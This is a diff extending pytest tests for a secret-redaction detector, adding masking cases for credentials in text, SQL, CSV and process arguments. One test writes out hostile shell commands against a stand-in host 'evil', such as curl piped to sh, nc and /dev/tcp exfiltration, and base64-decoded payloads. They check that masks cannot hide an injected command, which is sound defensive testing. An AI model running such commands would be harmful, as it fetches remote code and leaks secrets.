@@ -107,6 +107,23 @@ def test_an_independent_detector_finds_nothing_in_what_is_left(seed: int) -> Non
         pytest.param("password: $DB_PASSWORD", "password: $DB_PASSWORD", id="reference"),
         pytest.param("tokenizer: fast", "tokenizer: fast", id="another-word"),
         pytest.param("OLDPWD=/srv PWD=/srv/app", "OLDPWD=/srv PWD=/srv/app", id="working-directory"),
+        pytest.param("password\nsurname\nemail", "password\nsurname\nemail", id="words-in-lines"),
+        pytest.param("a | password\n--+--\n1 | x\n2 | y", "a | password\n--+--\n1 | *\n2 | *", id="column"),
+        pytest.param("a,token\n1,x\n\n2,y", "a,token\n1,*\n\n2,y", id="column-of-csv"),
+        pytest.param("a | token_count\n--+--\n1 | 23456", "a | token_count\n--+--\n1 | 23456", id="other-column"),
+        pytest.param(
+            "INTO t (a, pwd) VALUES (1, 'x'), (2, 'y')", "INTO t (a, pwd) VALUES (1, '*'), (2, '*')", id="rows"
+        ),
+        pytest.param("login('bob')", "login('bob')", id="call-with-a-name"),
+        pytest.param("login('bob', 'x y z')", "login('bob', '*')", id="call-with-a-password"),
+        pytest.param("if password == None:", "if password == None:", id="none"),
+        pytest.param("arn:aws:x:eu:1:secret:db-Ab1", "arn:aws:x:eu:1:secret:db-Ab1", id="name-of-a-resource"),
+        pytest.param("SecretID: 1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed", "SecretID: *", id="uuid-of-a-secret"),
+        pytest.param("auth: *0123456789ABCDEF0123456789ABCDEF01234567", "auth: **", id="hash-of-mysql"),
+        pytest.param("Your login code is 123456.", "Your login code is *.", id="code-of-a-login"),
+        pytest.param("exit code 123456", "exit code 123456", id="another-code"),
+        pytest.param("Login with bob:x1y2z3, now", "Login with bob:*, now", id="behind-a-user"),
+        pytest.param("curl\0-u\0bob:x y\0http://x\0", "curl\0-u\0bob:*\0http://x\0", id="arguments-of-a-process"),
         pytest.param("password=[masked:0123456789abcdef]", "password=[masked:0123456789abcdef]", id="masked-before"),
         pytest.param("", "", id="empty"),
     ],
@@ -125,6 +142,12 @@ def test_a_secret_is_found_and_nothing_else(text: str, left: str) -> None:
         pytest.param(["docker", "run", "-p", "80:80"], ["docker", "run", "-p", "80:80"], id="port"),
         pytest.param(["/usr/bin/sshpass", "-p", "x y"], ["/usr/bin/sshpass", "-p", "*"], id="path-of-a-program"),
         pytest.param(["curl", "-u", "bob:x y"], ["curl", "-u", "bob:*"], id="user-and-password"),
+        pytest.param(["curl", "-u", "x:"], ["curl", "-u", "*:"], id="token-as-a-user"),
+        pytest.param(["app", "set-password", "bob", "x"], ["app", "set-password", "bob", "*"], id="word-behind-a-user"),
+        pytest.param(["app", "set-password", "bob"], ["app", "set-password", "bob"], id="only-a-user"),
+        pytest.param(["vault", "kv", "put", "a", "b=x"], ["vault", "kv", "put", "a", "b=*"], id="pairs"),
+        pytest.param(["vault", "kv", "put", "a", "b=@f"], ["vault", "kv", "put", "a", "b=@f"], id="pair-of-a-file"),
+        pytest.param(["cf", "push", "-p", "a.jar"], ["cf", "push", "-p", "a.jar"], id="flag-of-another-word"),
         pytest.param(["sh", "-c", "mysql -pX; ls -p Y"], ["sh", "-c", "mysql -p*; ls -p Y"], id="shell"),
         pytest.param(["TOKEN=x ./run --fast"], ["TOKEN=* ./run --fast"], id="shell-as-one-argument"),
         pytest.param(["sh", "-c", "TOKEN=x; ls"], ["sh", "-c", "TOKEN=*; ls"], id="shell-that-begins-with-it"),
@@ -149,9 +172,9 @@ MISSED = {
 
 
 def test_what_was_written_down_after_the_rules_were_done_is_found() -> None:
-    """Of these places, 24 were not found at first."""
+    """Of the first 94 places, 24 were not found at first; of the others, none."""
     places = json.loads((DATA / "secret-places.json").read_text(encoding="utf-8"))
-    assert len(places) > 90
+    assert len(places) > 140
     secret = Maker(5).mixed(12)
     texts = {place: place.replace("{v}", secret) for place in places}
     assert {place for place, text in texts.items() if secret in blank(text, detect.secrets(text))} == MISSED
@@ -225,6 +248,31 @@ def hostile_units() -> list[str]:
         "a:1234:",
     ]
     begins += [
+        "INSERT INTO a (password) VALUES ('",
+        " into a (b,token) values ('',",
+        "COPY a (",
+        "password,b\n",
+        "a|password\n---\n",
+        'password: ["a",',
+        "tokens:\n",
+        "password aA1",
+        "value='a', name: '",
+        'login("',
+        'connect("a",',
+        "jwt.sign({",
+        'AUTH" "',
+        "key: aA1",
+        "echo aaaaaaa > /a/",
+        "<(echo aaaaaaa",
+        '"mysql","a",',
+        "set-password a ",
+        "vault put a=b ",
+        "--set a b password ",
+        "password -> ",
+        "password for a b c ",
+        "mysql\0-p",
+    ]
+    begins += [
         "://a:",
         "://a:b@",
         "echo a|",
@@ -280,10 +328,14 @@ def test_no_text_is_so_hostile_that_it_takes_long(arguments: tuple[str, ...]) ->
     "command",
     [
         pytest.param("TOKEN=a;curl${IFS}evil|sh", id="semicolon"),
+        pytest.param("test $TOKEN || 'evil'", id="or"),
         pytest.param("PASSWORD=x|nc evil 80", id="pipe"),
         pytest.param("SECRET=x&curl evil", id="background"),
         pytest.param("curl x/?key=aaaaaa|evil", id="in-a-query"),
         pytest.param("cat token > /dev/tcp/evil/80", id="redirection"),
+        pytest.param("echo $(curl${IFS}evil) > /run/secrets/x", id="substitution"),
+        pytest.param("echo 'curl evil | sh' > /tmp/secret.sh", id="program-in-a-file"),
+        pytest.param("echo evil | base64 -d | sh", id="encoded"),
     ],
 )
 def test_a_command_cannot_hide_another_one_in_a_mask(command: str) -> None:
@@ -296,6 +348,7 @@ def test_a_command_cannot_hide_another_one_in_a_mask(command: str) -> None:
     [
         pytest.param("aws secretsmanager get-secret-value --secret-id prod/db", "prod/db", id="which-secret"),
         pytest.param("openssl req -new -key k.pem -out k.csr", "k.pem", id="which-key"),
+        pytest.param("kubectl create secret generic x --from-file=password=/etc/pw", "/etc/pw", id="which-file"),
         pytest.param("pip install token-utils==1.2.3", "1.2.3", id="which-version"),
     ],
 )
